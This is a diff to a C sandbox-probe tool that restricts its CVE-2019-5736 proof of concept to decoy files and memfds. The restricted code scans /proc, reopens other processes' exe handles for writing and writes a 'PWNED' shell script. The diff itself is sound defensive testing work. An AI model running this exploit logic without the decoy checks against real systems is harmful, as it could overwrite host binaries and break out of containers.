@@ -12,10 +12,16 @@
  *   sysprobe fds                every open fd of this process with its target
  *   sysprobe open PATH MODE     open(PATH, r|w|path)
  *   sysprobe dumpable           prctl(PR_GET_DUMPABLE)
- *   sysprobe overwrite-exe SECS for SECS seconds, opens /proc/PID/exe of every other
+ *   sysprobe overwrite-exe SECS DIR DEV:INO...
+ *                               for SECS seconds, opens /proc/PID/exe of every other
  *                               process O_PATH and tries to re-open it for writing
  *                               (CVE-2019-5736); writes a marker when it succeeds,
- *                               else prints how many processes refused the open
+ *                               else prints how many processes refused the open.
+ *                               Attacks only decoys: files under DIR (the kernel's
+ *                               path of the handle) with one of the given
+ *                               st_dev:st_ino (decimal, as `stat -c %d:%i` prints),
+ *                               and memfds; prints "WOULD OVERWRITE PATH" for a
+ *                               handle on anything else and leaves it alone
  *
  * A syscall result is printed as "ok <ret>" or "errno <n> <text>"; exit status 0
  * unless the usage is wrong (2). Standalone: plain libc only. */
@@ -28,6 +34,7 @@
 #include <linux/keyctl.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -35,6 +42,7 @@
 #include <sys/mount.h>
 #include <sys/personality.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
@@ -81,14 +89,103 @@ static int print_fds(void)
 	return 0;
 }
 
+/* The only files overwrite-exe may write: decoys the test made in its own
+ * directory (named by the kernel's path of the handle AND by st_dev:st_ino,
+ * so neither a same-named file elsewhere nor a hard link outside the dir
+ * passes), and memfds (anonymous memory: writing one touches no file on the
+ * machine; isorun's sealed copy of itself is one). Anything else it gets a
+ * handle on is reported, never opened for writing: if a defence fails, the
+ * test fails instead of the machine losing /usr/bin/dash (issue 10). */
+struct decoys {
+	const char *dir; /* absolute, no trailing slash */
+	size_t dir_len;
+	dev_t dev[8];
+	ino_t ino[8];
+	int n;
+	dev_t memfd_dev; /* the kernel's internal shmem mount */
+};
+
+static int parse_decoys(struct decoys *d, const char *dir, int n, char **ids)
+{
+	d->dir = dir;
+	d->dir_len = strlen(dir);
+	while (d->dir_len > 1 && dir[d->dir_len - 1] == '/')
+		d->dir_len--;
+	if (dir[0] != '/' || d->dir_len < 2 || n < 1 || n > 8)
+		return -1;
+	for (d->n = 0; d->n < n; d->n++) {
+		unsigned long long dev, ino;
+		char end;
+		if (sscanf(ids[d->n], "%llu:%llu%c", &dev, &ino, &end) != 2)
+			return -1;
+		d->dev[d->n] = (dev_t)dev;
+		d->ino[d->n] = (ino_t)ino;
+	}
+	/* Without memfd_create (a profile may deny it) no memfd is a decoy. */
+	d->memfd_dev = (dev_t)-1;
+	int m = memfd_create("sysprobe-probe", MFD_CLOEXEC);
+	struct stat st;
+	if (m >= 0 && fstat(m, &st) == 0)
+		d->memfd_dev = st.st_dev;
+	if (m >= 0)
+		close(m);
+	return 0;
+}
+
+/* target: the kernel's name for the handle's file (its /proc/self/fd link). */
+static bool may_write(const struct decoys *d, int fd, const char *target)
+{
+	struct stat st;
+	if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode))
+		return false;
+	if (st.st_dev == d->memfd_dev && !strncmp(target, "/memfd:", 7))
+		return true;
+	if (strncmp(target, d->dir, d->dir_len) || target[d->dir_len] != '/' ||
+	    strstr(target + d->dir_len, "/../"))
+		return false;
+	for (int i = 0; i < d->n; i++)
+		if (st.st_dev == d->dev[i] && st.st_ino == d->ino[i])
+			return true;
+	return false;
+}
+
+static bool same_file(int a, int b)
+{
+	struct stat sa, sb;
+	return fstat(a, &sa) == 0 && fstat(b, &sb) == 0 && sa.st_dev == sb.st_dev &&
+	       sa.st_ino == sb.st_ino;
+}
+
+static bool seen_before(pid_t pid, const struct stat *st)
+{
+	static struct {
+		pid_t pid;
+		dev_t dev;
+		ino_t ino;
+	} seen[4096];
+	static int n;
+	for (int i = 0; i < n; i++)
+		if (seen[i].pid == pid && seen[i].dev == st->st_dev && seen[i].ino == st->st_ino)
+			return true;
+	if (n < (int)(sizeof(seen) / sizeof(seen[0]))) {
+		seen[n].pid = pid;
+		seen[n].dev = st->st_dev;
+		seen[n].ino = st->st_ino;
+		n++;
+	}
+	return false;
+}
+
 /* The CVE-2019-5736 attack: get an O_PATH handle on another process' exe
  * while it is open, then re-open it for writing (fails with ETXTBSY while the
- * binary runs, succeeds once it exited unless the handle was refused). */
-static int overwrite_exe(int secs)
+ * binary runs, succeeds once it exited unless the handle was refused). Only
+ * decoys are attacked (see struct decoys); a handle on anything else is a
+ * breach reported as "WOULD OVERWRITE <path>". */
+static int overwrite_exe(int secs, const struct decoys *dec)
 {
 	pid_t me = getpid();
 	time_t end = time(NULL) + secs;
-	int handles[4096], nh = 0, opened = 0, denied = 0, last_denied = 0;
+	int handles[4096], nh = 0, opened = 0, denied = 0, last_denied = 0, foreign = 0;
 	while (time(NULL) < end) {
 		DIR *d = opendir("/proc");
 		struct dirent *de;
@@ -119,8 +216,21 @@ static int overwrite_exe(int secs)
 				close(fd);
 				continue;
 			}
+			/* one report and one handle per process and file */
+			struct stat st;
+			if (fstat(fd, &st) < 0 || seen_before(pid, &st)) {
+				close(fd);
+				continue;
+			}
 			printf("handle on /proc/%d/exe -> %s\n", pid, target);
-			fflush(stdout);
+			if (!may_write(dec, fd, target)) {
+				printf("WOULD OVERWRITE %s (via /proc/%d/exe; not a decoy: not "
+				       "attacked)\n",
+				       target, pid);
+				foreign++;
+				close(fd);
+				continue;
+			}
 			handles[nh++] = fd;
 			opened++;
 		}
@@ -129,16 +239,27 @@ static int overwrite_exe(int secs)
 		for (int i = 0; i < nh; i++) {
 			char p[64];
 			snprintf(p, sizeof(p), "/proc/self/fd/%d", handles[i]);
-			int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
-			if (w >= 0) {
-				(void)!write(w, "#!/bin/sh\necho PWNED\n", 21);
+			/* no O_TRUNC: nothing changes until the opened file is
+			 * shown to be the decoy the handle was */
+			int w = open(p, O_WRONLY | O_CLOEXEC);
+			if (w < 0)
+				continue;
+			if (!same_file(w, handles[i])) {
+				printf("WOULD OVERWRITE %s (reopened as another file)\n", p);
+				foreign++;
+				close(w);
+				continue;
+			}
+			if (ftruncate(w, 0) == 0 && write(w, "#!/bin/sh\necho PWNED\n", 21) == 21) {
 				close(w);
 				printf("OVERWROTE exe via handle %d\n", handles[i]);
 				return 0;
 			}
+			close(w); /* a sealed memfd: write refused */
 		}
 	}
-	printf("no overwrite (%d handles, %d processes refused)\n", opened, denied);
+	printf("no overwrite (%d handles, %d processes refused, %d outside the decoys)\n", opened,
+	       denied, foreign);
 	return 0;
 }
 
@@ -198,10 +319,17 @@ int main(int argc, char **argv)
 	}
 	if (!strcmp(cmd, "dumpable"))
 		return report(prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
-	if (!strcmp(cmd, "overwrite-exe") && argc == 3)
-		return overwrite_exe(atoi(argv[2]));
+	if (!strcmp(cmd, "overwrite-exe") && argc >= 5) {
+		struct decoys d;
+		if (parse_decoys(&d, argv[3], argc - 4, argv + 4) < 0) {
+			fprintf(stderr, "sysprobe: overwrite-exe: bad decoy dir or DEV:INO\n");
+			return 2;
+		}
+		return overwrite_exe(atoi(argv[2]), &d);
+	}
 usage:
 	fprintf(stderr, "usage: sysprobe keyctl|unshare HEX|mount|personality N|kill PID SIG|"
-			"mkdir32 PATH|status|fds|open PATH r|w|p|dumpable|overwrite-exe SECS\n");
+			"mkdir32 PATH|status|fds|open PATH r|w|p|dumpable|"
+			"overwrite-exe SECS DIR DEV:INO...\n");
 	return 2;
 }
